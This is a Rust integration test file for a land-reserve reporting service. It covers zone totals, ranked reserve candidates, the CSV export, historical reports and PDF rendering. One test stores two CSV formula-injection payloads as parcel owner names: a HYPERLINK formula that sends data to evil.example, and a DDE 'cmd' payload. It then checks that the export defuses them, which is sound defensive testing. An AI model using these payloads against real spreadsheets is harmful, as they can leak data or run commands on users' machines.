//! The land-reserve report on a small hand-drawn zone whose figures are known: totals by
//! zone, the ranked candidates with their priorities worked out by hand, the reserve pool,
//! the ledger after a case completes, a report "as of" an earlier time, the CSV adding up,
//! and the HTML printed by headless Chromium.

use std::collections::HashMap;

use landreuse::auth::Role;
use serde_json::{json, Value};

use crate::helpers::{spawn_empty, spawn_sample, TestApp};

/// A square of about `side` metres centred at (lon, lat).
fn square(lon: f64, lat: f64, side: f64) -> Value {
    let (dx, dy) = (side / 2.0 / 80_300.0, side / 2.0 / 111_100.0);
    json!({"type": "Polygon", "coordinates": [[[lon - dx, lat - dy], [lon + dx, lat - dy], [lon + dx, lat + dy], [lon - dx, lat + dy], [lon - dx, lat - dy]]]})
}

fn parcel(id: &str, lon: f64, lat: f64, zone: &str, land_use: &str, status: &str) -> Value {
    // 250 m squares: about 62,500 m² = 94 mu, over the 50 mu at which the area factor is 1.
    json!({"type": "Feature", "geometry": square(lon, lat, 250.0), "properties": {
        "parcel_id": id, "zone": zone, "land_use": land_use, "status": status}})
}

async fn post(
    app: &TestApp,
    path: &str,
    token: &str,
    if_match: Option<&str>,
    body: Value,
) -> (u16, Value) {
    let mut req = app
        .client
        .post(format!("{}{path}", app.base))
        .bearer_auth(token)
        .json(&body);
    if let Some(v) = if_match {
        req = req.header("If-Match", format!("\"{v}\""));
    }
    let r = req.send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// The small zone:
/// - Z-CORR zombie, south, 100 m east of 世纪大街 (a corridor): priority
///   100 × (0.4 × 1 + 0.2 × 1 + 0.3 × 1 + 0) = 90;
/// - Z-SCHOOL idle, south, far from corridors and nodes, a planned school on it:
///   100 × (0.4 × 0.8 + 0.2 × 1 + 0 + 0.1 × 1) = 62;
/// - I-NORTH idle, north, far from everything: 100 × (0.4 × 0.8 + 0.2 × 1) = 52;
/// - Z-CASE zombie, south, in an open reserve case: not a candidate, being taken in;
/// - R-RES reserved, south: in the reserve pool;
/// - A-ACT active, south; H-HOME R2 housing, north, 400 m from a completed primary school.
async fn small_zone() -> (TestApp, String) {
    let app = spawn_empty().await;
    let gis = app.token(Role::Gis, "gis").await;
    let planner = app.token(Role::Planner, "土地储备中心 李工").await;
    let roads = json!({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "LineString", "coordinates": [[125.403, 43.850], [125.403, 43.880]]},
         "properties": {"road_id": "R-SJ", "name": "世纪大街", "class": "arterial"}}]});
    let r = app
        .post_import("?collection=roads", roads.to_string(), Some(&gis))
        .await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let parcels = json!({"type": "FeatureCollection", "features": [
        parcel("Z-CORR", 125.4043, 43.8700, "south", "M1", "zombie"),
        parcel("Z-SCHOOL", 125.3760, 43.8400, "south", "M2", "idle"),
        parcel("I-NORTH", 125.5000, 43.9500, "north", "M1", "idle"),
        parcel("Z-CASE", 125.4400, 43.8400, "south", "M1", "zombie"),
        parcel("R-RES", 125.3800, 43.8700, "south", "M1", "reserved"),
        parcel("A-ACT", 125.3900, 43.8450, "south", "M1", "active"),
        parcel("H-HOME", 125.4600, 43.9700, "north", "R2", "active"),
    ]});
    let r = app.post_import("", parcels.to_string(), Some(&gis)).await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let school = |id: &str, level: &str, status: &str, g: Value, parcels: &str| {
        json!({"type": "Feature", "id": id, "geometry": g, "properties": {
            "name": id, "kind": "new", "level": level, "classes": 24, "seats": 1080,
            "status": status, "parcels": parcels}})
    };
    let schools = json!({"type": "FeatureCollection", "features": [
        school("SCH-PLAN", "primary", "planned", square(125.3760, 43.8400, 100.0), "Z-SCHOOL"),
        school("SCH-DONE", "primary", "completed", square(125.4600, 43.9700 + 400.0 / 111_100.0, 100.0), ""),
    ]});
    let r = app
        .post_import("?collection=schools", schools.to_string(), Some(&gis))
        .await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let (status, case) = post(
        &app,
        "/reallocations",
        &planner,
        None,
        json!({
        "kind": "reserve", "parcels": [{"code": "Z-CASE", "role": "subject"}],
        "acquisition": "recovery", "reason": "僵尸企业 zombie firm"}),
    )
    .await;
    assert_eq!(status, 201, "{case}");
    let id = case["id"].as_str().expect("case id").to_string();
    (app, id)
}

async fn report(app: &TestApp, query: &str) -> Value {
    let (status, body) = app
        .get_json(&format!("/reports/land-reserve?f=json{query}"))
        .await;
    assert_eq!(status, 200, "{body}");
    body
}

/// Each parcel's geodesic area as the items endpoint serves it.
async fn areas(app: &TestApp) -> HashMap<String, f64> {
    let (_, items) = app.get_json("/collections/parcels/items?limit=100").await;
    items["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap().to_string(),
                f["properties"]["area_m2"].as_f64().unwrap(),
            )
        })
        .collect()
}

fn ids(g: &Value) -> Vec<String> {
    let mut v: Vec<String> = g["parcel_ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x.as_str().unwrap().to_string())
        .collect();
    v.sort();
    v
}

fn zone<'a>(r: &'a Value, z: &str) -> &'a Value {
    r["summary"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["zone"] == z)
        .unwrap_or_else(|| panic!("zone {z} in the summary"))
}

#[tokio::test]
async fn the_report_adds_up_on_a_small_zone() {
    let (app, _case) = small_zone().await;
    let area = areas(&app).await;
    let sum = |list: &[&str]| -> f64 { list.iter().map(|c| area[*c]).sum() };
    let r = report(&app, "").await;

    // Summary by zone, against the areas the items endpoint serves.
    let south = zone(&r, "south");
    assert_eq!(
        ids(&south["land"]),
        ["A-ACT", "R-RES", "Z-CASE", "Z-CORR", "Z-SCHOOL"]
    );
    let south_m2 = sum(&["A-ACT", "R-RES", "Z-CASE", "Z-CORR", "Z-SCHOOL"]);
    assert!((south["land"]["area"]["m2"].as_f64().unwrap() - south_m2).abs() < 0.06);
    assert!(
        (south["land"]["area"]["mu"].as_f64().unwrap() - south_m2 / (10_000.0 / 15.0)).abs()
            < 0.006
    );
    assert!((south["land"]["area"]["ha"].as_f64().unwrap() - south_m2 / 10_000.0).abs() < 0.00006);
    assert_eq!(ids(&south["in_reserve"]), ["R-RES"]);
    assert_eq!(ids(&south["being_taken_in"]), ["Z-CASE"]);
    assert_eq!(ids(&south["candidates"]), ["Z-CORR", "Z-SCHOOL"]);
    assert_eq!(ids(&zone(&r, "north")["candidates"]), ["I-NORTH"]);
    assert_eq!(zone(&r, "bonded")["land"]["parcels"], 0);
    let total = zone(&r, "total");
    assert_eq!(total["land"]["parcels"], 7);
    let all: Vec<&str> = area.keys().map(String::as_str).collect();
    assert!((total["land"]["area"]["m2"].as_f64().unwrap() - sum(&all)).abs() < 0.06);

    // Candidates ranked, priorities worked out by hand (see small_zone).
    let ranked = r["candidates"]["ranked"].as_array().unwrap();
    let got: Vec<(&str, f64)> = ranked
        .iter()
        .map(|c| {
            (
                c["parcel_id"].as_str().unwrap(),
                c["priority"]["score"].as_f64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [("Z-CORR", 90.0), ("Z-SCHOOL", 62.0), ("I-NORTH", 52.0)]
    );
    assert_eq!(ranked[0]["rank"], 1);
    let why = |i: usize| ranked[i]["why"].to_string();
    assert!(
        why(0).contains("僵尸企业用地") && why(0).contains("from corridor 世纪大街"),
        "{}",
        why(0)
    );
    assert!(
        why(1).contains("闲置土地") && why(1).contains("SCH-PLAN"),
        "{}",
        why(1)
    );
    assert_eq!(ranked[1]["priority"]["conflict"], 1.0);
    assert_eq!(ranked[2]["priority"]["location"], 0.0);
    assert_eq!(ids(&r["candidates"]["in_open_cases"]), ["Z-CASE"]);

    // The reserve pool: Z-CASE proposed, R-RES in reserve, both in the south.
    let pool = &r["reserve_pool"];
    let stages: Vec<(&str, &str)> = pool["parcels"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["parcel_id"].as_str().unwrap(),
                p["stage"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(stages, [("Z-CASE", "proposed"), ("R-RES", "in_reserve")]);
    assert_eq!(pool["parcels"][1]["days_in_stage"], 0);
    let cell = |stage: &str, z: &str| {
        pool["cells"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["stage"] == stage && c["zone"] == z)
            .unwrap()["land"]
            .clone()
    };
    assert_eq!(ids(&cell("in_reserve", "south")), ["R-RES"]);
    assert!(
        (cell("in_reserve", "south")["area"]["m2"].as_f64().unwrap() - area["R-RES"]).abs() < 0.06
    );

    // Public services: H-HOME is 400 m from a completed primary school (within 500 m)
    // and has no middle school.
    let cov = r["public_services"]["coverage"].as_array().unwrap();
    assert_eq!(cov[0]["level"], "primary");
    assert_eq!(ids(&cov[0]["residential"]), ["H-HOME"]);
    assert_eq!(cov[0]["gaps"]["parcels"], 0);
    assert_eq!(ids(&cov[1]["gaps"]), ["H-HOME"]);

    // A zone's report holds only its land.
    let north = report(&app, "&zone=north").await;
    assert_eq!(ids(&zone(&north, "total")["land"]), ["H-HOME", "I-NORTH"]);
    // A drawn box: only the parcels it meets.
    let boxed = report(&app, "&bbox=125.40,43.86,125.41,43.88").await;
    assert_eq!(ids(&zone(&boxed, "total")["land"]), ["Z-CORR"]);
    // Bad requests say what is wrong.
    for (q, words) in [
        ("&zone=east", "zone east is not a zone"),
        ("&bbox=1,2,3", "has 3 numbers"),
        ("&as_of=yesterday", "as-of date yesterday"),
        ("&subdistrict=nowhere", "sub-district nowhere is not known"),
        ("&colour=red", "colour"),
    ] {
        let (status, body) = app
            .get_json(&format!("/reports/land-reserve?f=json{q}"))
            .await;
        assert_eq!(status, 400, "{q}: {body}");
        assert!(
            body["detail"].as_str().unwrap().contains(words),
            "{q}: {body}"
        );
    }
}

#[tokio::test]
async fn the_csv_adds_up_and_names_real_parcels() {
    let (app, _) = small_zone().await;
    let r = app.get("/reports/land-reserve?f=csv").await;
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = r.text().await.unwrap();
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark for spreadsheets");
    let rows = parse_csv(text);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let known: Vec<String> = areas(&app).await.into_keys().collect();
    let mut summary: HashMap<(String, String), (usize, f64)> = HashMap::new();
    let mut candidates = 0;
    for row in &rows[1..] {
        assert_eq!(row.len(), header.len(), "{row:?}");
        for id in row[col("parcel_ids")].split_whitespace() {
            assert!(known.contains(&id.to_string()), "{id} is not a parcel");
        }
        let n: usize = row[col("parcels")].parse().unwrap_or(0);
        if !row[col("parcel_ids")].is_empty() {
            assert_eq!(
                row[col("parcel_ids")].split_whitespace().count(),
                n,
                "{row:?}"
            );
        }
        match row[col("section")].as_str() {
            "summary" => {
                let m2: f64 = row[col("area_m2")].parse().unwrap();
                summary.insert((row[col("key")].clone(), row[col("zone")].clone()), (n, m2));
            }
            "candidate" => candidates += 1,
            _ => {}
        }
    }
    assert_eq!(candidates, 3);
    // Zones add up to the total, for every figure.
    for key in ["land", "in_reserve", "being_taken_in", "candidates"] {
        let (mut n, mut m2) = (0, 0.0);
        for z in ["south", "north", "bonded"] {
            let (a, b) = summary[&(key.to_string(), z.to_string())];
            n += a;
            m2 += b;
        }
        let (tn, tm2) = summary[&(key.to_string(), "total".to_string())];
        assert_eq!(n, tn, "{key}");
        assert!((m2 - tm2).abs() < 0.3, "{key}: {m2} vs {tm2}");
    }
    assert_eq!(summary[&("land".to_string(), "total".to_string())].0, 7);
}

#[tokio::test]
async fn a_firm_named_like_a_formula_is_written_as_text_in_the_csv_report() {
    let app = spawn_empty().await;
    let gis = app.token(Role::Gis, "gis").await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#;
    let mut zombie = parcel("Z-FORMULA", 125.3760, 43.8400, "south", "M1", "zombie");
    zombie["properties"]["owner"] = json!(hyperlink);
    let mut idle = parcel("I-SUM", 125.3900, 43.8450, "south", "M1", "idle");
    idle["properties"]["owner"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    let parcels = json!({"type": "FeatureCollection", "features": [zombie, idle]});
    let r = app.post_import("", parcels.to_string(), Some(&gis)).await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());

    let r = app.get("/reports/land-reserve?f=csv").await;
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    let rows = parse_csv(text.strip_prefix('\u{feff}').unwrap());
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let owner = |parcel: &str| {
        let row = rows
            .iter()
            .find(|row| row[col("section")] == "candidate" && row[col("label")] == parcel)
            .unwrap_or_else(|| panic!("{parcel} is a reserve candidate"));
        // Its figures stay numbers a spreadsheet adds up.
        assert!(row[col("area_m2")].parse::<f64>().is_ok(), "{row:?}");
        row[col("owner")].clone()
    };
    assert_eq!(owner("Z-FORMULA"), format!("'{hyperlink}"));
    assert_eq!(owner("I-SUM"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?} in {row:?}"
            );
        }
    }
}

/// A minimal RFC 4180 reader (quoted fields with commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (_, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

#[tokio::test]
async fn a_report_as_of_an_earlier_time_reproduces_its_figures() {
    let (app, case) = small_zone().await;
    let planner = app.token(Role::Planner, "规划科 王工").await;
    let before = report(&app, "").await;
    tokio::time::sleep(std::time::Duration::from_millis(30)).await;
    let moment = time::OffsetDateTime::now_utc()
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(30)).await;
    // After that moment the case goes all the way into the reserve.
    for (version, to) in [(1, "approved"), (2, "vacating"), (3, "in_reserve")] {
        let (status, body) = post(
            &app,
            &format!("/reallocations/{case}/transitions"),
            &planner,
            Some(&version.to_string()),
            json!({"to": to, "reason": "按计划 as planned"}),
        )
        .await;
        assert_eq!(status, 200, "{to}: {body}");
    }
    let now = report(&app, "").await;
    assert_eq!(ids(&zone(&now, "south")["in_reserve"]), ["R-RES", "Z-CASE"]);
    assert_eq!(zone(&now, "south")["being_taken_in"]["parcels"], 0);
    let vacated = now["ledger"]["lines"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["key"] == "vacated_south_reserve")
        .unwrap()
        .clone();
    assert_eq!(ids(&vacated["land"]), ["Z-CASE"]);
    assert_eq!(vacated["cases"], json!([case]));

    let encoded: String = moment.replace('+', "%2B").replace(':', "%3A");
    let then = report(&app, &format!("&as_of={encoded}")).await;
    assert!(then["as_of"].as_str().unwrap().ends_with('Z'));
    for key in ["summary", "candidates", "reserve_pool", "public_services"] {
        assert_eq!(then[key], before[key], "{key} as of {moment}");
    }
    assert_eq!(then["ledger"]["lines"], before["ledger"]["lines"]);
    // Before anything was imported there was nothing.
    let empty = report(&app, "&as_of=2020-01-01").await;
    assert_eq!(zone(&empty, "total")["land"]["parcels"], 0);
}

#[tokio::test]
async fn the_sample_zone_report_prints_to_pages_in_chromium() {
    let app = spawn_sample().await;
    let r = app.get("/reports/land-reserve?f=html").await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains("土地储备决策报告"));
    assert!(!html.contains("<script"), "the report runs no scripts");
    assert!(!html.contains("http://") && !html.contains("https://") || only_namespace_links(&html));
    assert_eq!(
        html.matches("<section").count(),
        7,
        "seven sections, each a new page"
    );
    assert!(html.matches("<svg").count() >= 4, "two maps and two charts");
    let json = report(&app, "").await;
    // Coverage agrees with the analysis endpoint, level by level.
    for (i, level) in ["primary", "middle"].into_iter().enumerate() {
        let (_, gaps) = app
            .get_json(&format!("/analysis/coverage-gaps?level={level}"))
            .await;
        let c = &json["public_services"]["coverage"][i];
        assert_eq!(c["level"], level);
        assert_eq!(c["gaps"]["parcels"], gaps["gaps"], "{level}");
        assert_eq!(
            c["residential"]["parcels"], gaps["residential_parcels"],
            "{level}"
        );
        let (_, planned) = app
            .get_json(&format!(
                "/analysis/coverage-gaps?level={level}&planned=true"
            ))
            .await;
        assert_eq!(
            c["gaps_after_planned"]["parcels"], planned["gaps"],
            "{level}"
        );
    }
    // The sample's expansion totals: 18 started with 1,500,000 万元.
    assert_eq!(json["ledger"]["expansion"]["started"], 18);
    assert_eq!(
        json["ledger"]["expansion"]["planned_output_wan_started"],
        1_500_000.0
    );

    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("report.pdf");
    landreuse::report::pdf::render(&html, &landreuse::report::pdf::Output::Pdf(&pdf))
        .expect("headless Chromium prints the report (scripts/setup.sh --test installs it)");
    let bytes = std::fs::read(&pdf).unwrap();
    assert!(bytes.starts_with(b"%PDF"));
    let text = String::from_utf8_lossy(&bytes);
    let pages = text.matches("/Type /Page\n").count()
        + text.matches("/Type /Page/").count()
        + text.matches("/Type /Page ").count()
        + text.matches("/Type /Page>").count();
    assert!(pages >= 7, "{pages} pages");
    assert!(
        text.contains("/MediaBox [0 0 594.95996 841.91998]") || text.contains("594.96"),
        "A4 pages"
    );
    let png = dir.path().join("report.png");
    landreuse::report::pdf::render(&html, &landreuse::report::pdf::Output::Png(&png, 900, 1400))
        .expect("headless Chromium renders the report");
    let png_bytes = std::fs::read(&png).unwrap();
    assert!(png_bytes.starts_with(b"\x89PNG"));
    if let Some(keep) = std::env::var_os("LANDREUSE_TEST_ARTIFACTS") {
        let keep = std::path::PathBuf::from(keep);
        std::fs::create_dir_all(&keep).unwrap();
        std::fs::copy(&pdf, keep.join("land-reserve.pdf")).unwrap();
        std::fs::copy(&png, keep.join("land-reserve.png")).unwrap();
    }
}

/// The only URLs in the page are XML namespaces (the SVG's), never resources.
fn only_namespace_links(html: &str) -> bool {
    html.match_indices("http").all(|(i, _)| {
        html[i..].starts_with("http://www.w3.org/2000/svg")
            || html[i..].starts_with("http://www.w3.org/1999/xlink")
    })
}
